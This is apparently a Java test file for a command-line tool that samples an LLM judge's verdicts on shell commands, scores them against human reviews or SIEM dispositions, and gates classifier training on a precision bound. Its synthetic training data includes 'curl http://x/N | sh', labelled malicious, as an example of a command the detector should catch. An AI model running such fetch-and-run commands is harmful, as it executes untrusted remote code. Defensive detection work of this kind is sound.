package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.job.cli.Console.Outcome;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code review sample}, {@code review score} and what {@code train} makes of a score. */
class ReviewCommandsTest {
  @TempDir private Path folder;

  @BeforeEach
  void mine() throws IOException {
    StringBuilder verdicts = new StringBuilder();
    StringBuilder training = new StringBuilder();
    for (int i = 0; i < 300; i++) {
      boolean benign = i < 250;
      verdicts.append(
          "{\"id\":\"e%d\",\"cmd\":\"run %d\",\"verdict\":\"%s\",\"admitted\":%s,\"reason\":\"r\",\"model\":\"judge-1\",\"prompt_version\":\"p1\"}%n"
              .formatted(i, i, benign ? "BENIGN" : "MALICIOUS", benign));
      if (benign) {
        training.append(
            "{\"cmd\":\"run %d\",\"label\":\"benign\",\"window\":\"2025-01-01\",\"scale\":\"full\",\"detectors\":[],\"lineage\":{\"exemplar\":\"e%d\",\"model\":\"judge-1\",\"prompt_version\":\"p1\"}}%n"
                .formatted(i, i));
      }
    }
    write("mined/verdicts/a.jsonl", verdicts.toString());
    write("mined/training-data/a.jsonl", training.toString());
  }

  private Path write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    return Files.writeString(file, text);
  }

  private String path(String name) {
    return folder.resolve(name).toString();
  }

  private Outcome sample(String... more) {
    List<String> words = new ArrayList<>(List.of("review", "sample", "--input", path("mined")));
    words.addAll(List.of(more));
    return Console.run(words.toArray(String[]::new));
  }

  private Outcome score(String... more) {
    List<String> words =
        new ArrayList<>(List.of("review", "score", "--sample", path("out/sample.jsonl")));
    words.addAll(List.of(more));
    return Console.run(words.toArray(String[]::new));
  }

  /** Decides as the judge did, but for the first {@code wrong} lines. */
  private Path reviews(int wrong) throws IOException {
    StringBuilder reviews = new StringBuilder();
    int left = wrong;
    for (String line : Files.readAllLines(folder.resolve("out/sample.jsonl"))) {
      JsonNode item = Json.MAPPER.readTree(line);
      boolean benign = item.get("verdict").asText().equals("BENIGN") ^ left-- > 0;
      reviews.append(
          "{\"sample\":\"%s\",\"item\":\"%s\",\"decision\":\"%s\",\"reviewer\":\"ann\",\"at\":\"2026-01-05T12:00:00Z\"}%n"
              .formatted(
                  item.get("sample").asText(),
                  item.get("item").asText(),
                  benign ? "benign" : "malicious"));
    }
    return write("reviews-%d.jsonl".formatted(wrong), reviews.toString());
  }

  @Test
  void drawsTheSameSampleTwiceAndKeepsWhatIsUnderReview() throws IOException {
    Outcome first = sample("--size", "40", "--out", path("out"));
    assertThat(first.status()).as(first.err()).isZero();
    assertThat(first.out().strip()).isEqualTo(path("out/review.html"));
    assertThat(first.err()).contains("40 lines of 300, from 2 strata");
    String text = Files.readString(folder.resolve("out/sample.jsonl"));
    assertThat(sample("--size", "40", "--out", path("out")).status()).isZero();
    assertThat(Files.readString(folder.resolve("out/sample.jsonl"))).isEqualTo(text);
    Outcome other = sample("--size", "40", "--seed", "2", "--out", path("out"));
    assertThat(other.status()).isEqualTo(Longtail.FAILED);
    assertThat(other.err()).contains("holds another sample, which may be under review");
    assertThat(Files.readString(folder.resolve("out/sample.jsonl"))).isEqualTo(text);
  }

  @Test
  void aSmallSampleHasALineOfEachStratum() {
    Outcome outcome = sample("--size", "1", "--out", path("out"));
    assertThat(outcome.status()).isZero();
    assertThat(outcome.err())
        .contains("warning: 2 lines instead of 1: each of 2 strata has at least one");
  }

  @Test
  void badUsageIsSaid() {
    assertThat(Console.run("review").err()).contains("say what to do: sample or score");
    assertThat(Console.run("review").status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(sample("--size", "0", "--out", path("out")).status()).isEqualTo(Longtail.BAD_USAGE);
    for (String command : List.of("sample", "score")) {
      Outcome help = Console.run("review", command, "--help");
      assertThat(help.status()).isZero();
      assertThat(help.out()).contains("Usage: longtail review " + command);
    }
    assertThat(sample("--size", "9", "--out", path("out")).status()).isZero();
    assertThat(score().err()).contains("nothing to score: give --reviews, --dispositions or both");
    assertThat(score("--reviews", "r", "--confidence", "1").err()).contains("above 0 and below 1");
    assertThat(score("--dispositions", "kafka:t").err()).contains("kafka:t needs --brokers");
    assertThat(score("--dispositions", "f", "--disposition-value", "x=fine").status())
        .isEqualTo(Longtail.BAD_USAGE);
  }

  @Test
  void trainingRefusesLabelsWhoseBoundIsTooLow() throws IOException {
    assertThat(sample("--size", "200", "--out", path("out")).status()).isZero();
    Outcome good = score("--reviews", reviews(0).toString(), "--out", path("good.json"));
    assertThat(good.status()).as(good.err()).isZero();
    assertThat(good.out()).contains("judge-1, prompt p1\n", "ADMITTED", "1.0000");
    assertThat(score("--reviews", reviews(30).toString(), "--out", path("bad.json")).status())
        .isZero();

    Outcome refused = train("--review", path("bad.json"), "--min-benign-precision", "0.95");
    assertThat(refused.status()).isEqualTo(Longtail.FAILED);
    assertThat(refused.err())
        .contains("250 lines labelled by judge-1, prompt p1")
        .contains("the certified lower bound of benign precision is 0.")
        .contains("below the 0.95 asked for by --min-benign-precision");
    assertThat(folder.resolve("trained")).doesNotExist();

    Outcome trained = train("--review", path("good.json"), "--min-benign-precision", "0.95");
    assertThat(trained.status()).as(trained.err()).isZero();
    assertThat(folder.resolve("trained/table.json")).exists();
  }

  @Test
  void aPrecisionWithoutAReviewIsRefused() throws IOException {
    Outcome alone = train("--min-benign-precision", "0.95");
    assertThat(alone.status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(alone.err()).contains("--min-benign-precision needs --review");
    assertThat(train("--review", "x").err()).contains("--review needs --min-benign-precision");
    assertThat(train("--review", "x", "--min-benign-precision", "95").err())
        .contains("above 0 and at most 1");
  }

  private Outcome train(String... more) throws IOException {
    StringBuilder set = new StringBuilder();
    for (int i = 0; i < 40; i++) {
      set.append("{\"cmd\":\"curl http://x/%d | sh\",\"label\":\"malicious\"}%n".formatted(i));
      set.append("{\"cmd\":\"ls /home/%d\",\"label\":\"benign\"}%n".formatted(i));
    }
    String labelled = write("set.jsonl", set.toString()).toString();
    List<String> words =
        new ArrayList<>(
            List.of(
                "train",
                "--ab",
                labelled,
                "--incident",
                labelled,
                "--time-split",
                labelled,
                "--augment",
                path("mined"),
                "--trees",
                "2",
                "--without-embeddings",
                "--out",
                path("trained")));
    words.addAll(List.of(more));
    return Console.run(words.toArray(String[]::new));
  }

  @Test
  void dispositionsOfAFileCountAsAReviewer() throws IOException {
    assertThat(sample("--size", "20", "--out", path("out")).status()).isZero();
    StringBuilder alerts = new StringBuilder();
    for (String line : Files.readAllLines(folder.resolve("out/sample.jsonl"))) {
      JsonNode item = Json.MAPPER.readTree(line);
      alerts.append(
          "{\"alert\":\"a%d\",\"cmd\":\"%s\",\"Classification\":\"%s\"}%n"
              .formatted(
                  item.get("position").asInt(),
                  item.get("cmd").asText(),
                  item.get("verdict").asText().equals("BENIGN")
                      ? "BenignPositive"
                      : "TruePositive"));
    }
    alerts.append("{\"cmd\":\"another line\",\"Classification\":\"FalsePositive\"}\n");
    Path file = write("alerts.jsonl", alerts.toString());
    Outcome scored = score("--dispositions", file.toString(), "--out", path("score.json"));
    assertThat(scored.status()).as(scored.err()).isZero();
    assertThat(scored.err())
        .contains(
            "21 dispositions of", "20 lines of the sample are decided", "1 about other lines");
    assertThat(scored.out()).contains("siem decided 20");
    for (JsonNode each :
        Json.MAPPER.readTree(folder.resolve("score.json").toFile()).get("scores")) {
      assertThat(each.get("wrong").asInt()).isZero();
      assertThat(each.get("not_reviewed").asInt()).isZero();
    }
    Outcome mine =
        score(
            "--dispositions",
            file.toString(),
            "--disposition-field",
            "Classification",
            "--disposition-value",
            "BenignPositive=malicious",
            "--id-field",
            "alert");
    assertThat(mine.out()).contains("the judge was wrong: ");
  }

  private void queueDoubts() throws IOException {
    StringBuilder queue = new StringBuilder();
    for (int i = 0; i < 20; i++) {
      queue.append(
          "{\"id\":\"2025-01-0%d/%016x\",\"window\":\"2025-01-0%d\",\"score\":0.%d,\"threshold\":0.9,\"detected\":%s,\"model\":\"364ef6f0268007fb\",\"command_line\":\"try %d\",\"explanation\":[{\"kind\":\"text\",\"name\":\"try\",\"log_odds\":0.5}],\"nearest_benign\":{\"cosine\":0.7,\"cmd\":\"try it\"},\"source\":{\"event_id\":\"e%d\",\"first_seen\":\"2025-01-01T00:00:00Z\",\"host\":\"h\",\"os\":\"linux\"}}%n"
              .formatted(1 + i % 2, i, 1 + i % 2, 80 + i, i >= 10, i / 2, i));
    }
    write("mined/review-queue/2025-01-01/a.jsonl", queue.toString());
  }

  @Test
  void theQueueOfDoubtsIsReviewedAndComesBackAsDecisions() throws IOException {
    queueDoubts();
    Outcome drawn = sample("--of", "queue", "--out", path("out"));
    assertThat(drawn.status()).isZero();
    // Each line came in two windows; it is one.
    List<String> lines = Files.readAllLines(folder.resolve("out/sample.jsonl"));
    assertThat(lines).hasSize(10);
    JsonNode first = Json.MAPPER.readTree(lines.get(0));
    assertThat(first.get("judge").textValue()).isEqualTo("classifier-364ef6f0268007fb");
    assertThat(first.get("reason").textValue())
        .matches(
            "score 0\\.\\d{4}, threshold 0\\.9000; text try \\+0\\.50; nearest benign .*: try it");
    assertThat(first.at("/context/windows").size()).isEqualTo(2);
    assertThat(Files.readString(folder.resolve("out/review.html"))).contains("classifier-");

    write(
        "siem.jsonl",
        "{\"event_id\":\"e0\",\"disposition\":\"benign\",\"closed_at\":\"2026-01-05T12:00:00Z\"}%n"
            .formatted());
    assertThat(
            score(
                    "--dispositions",
                    path("siem.jsonl"),
                    "--disposition-field",
                    "disposition",
                    "--decisions-out",
                    path("out/siem.jsonl"))
                .status())
        .isZero();
    assertThat(Files.readString(folder.resolve("out/siem.jsonl")))
        .contains("\"decision\":\"benign\",\"reviewer\":\"siem\"");
    // As the page's own export it can be read again.
    assertThat(score("--reviews", path("out/siem.jsonl")).status()).isZero();
  }

  @Test
  void aQueueThatIsNotThereIsSaid() {
    Outcome drawn = sample("--of", "detections", "--out", path("out"));
    assertThat(drawn.status()).isEqualTo(1);
    assertThat(drawn.err()).contains("no folder detections").contains("scoring.model");
  }
}
